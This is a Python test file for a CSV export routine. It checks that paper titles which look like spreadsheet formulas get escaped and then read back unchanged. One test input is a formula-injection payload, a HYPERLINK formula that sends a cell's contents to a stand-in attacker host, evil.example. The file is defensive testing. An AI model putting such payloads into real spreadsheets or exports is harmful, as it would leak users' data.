"""Words in a spreadsheet's cell are never a formula, and come back as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.files import bare_cell, words_of_cell
from controller.paper.readings import COLUMNS, csv_rows, csv_text


@given(st.text("='+-@\t\r\n ;0.a\uff1d", max_size=8) | st.text(max_size=20))
def test_words_come_back_unchanged(words: str) -> None:
    """Whatever a title says, its cell begins no formula unless it is a plain number, and gives the words again."""
    cell = bare_cell(words)
    assert words_of_cell(cell) == words
    assert not cell.lstrip().startswith(("=", "@", "\uff1d"))
    assert not cell.startswith(("\t", "\r", "\n"))
    if cell.lstrip().startswith(("+", "-")):
        float(cell)
    # where decimals have a comma, a semicolon parts cells, whatever is quoted
    assert not any(part.lstrip(" \t").startswith(("=", "@", "\uff1d")) for part in re.split("[;\t]", cell)[1:])


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1/3 paper",
        "'=a",
        "''",
        "-5",
        "@x",
        " =a",
        "\u200b=a",
        "a;=b",
        "a; '+b",
        "a; -5 b",
    ],
)
def test_a_papers_name_comes_back_from_its_readings(name: str) -> None:
    """A paper called like a formula is written as words, and read again under its own name."""
    row = (name, "80", "0", "1", "0.05", "-0.02")
    text = csv_text(COLUMNS, [row])
    assert next(iter(list(csv.reader(io.StringIO(text)))[1])) == bare_cell(name)
    assert csv_rows(text, "r.csv", COLUMNS) == [(2, dict(zip(COLUMNS, row, strict=True)))]
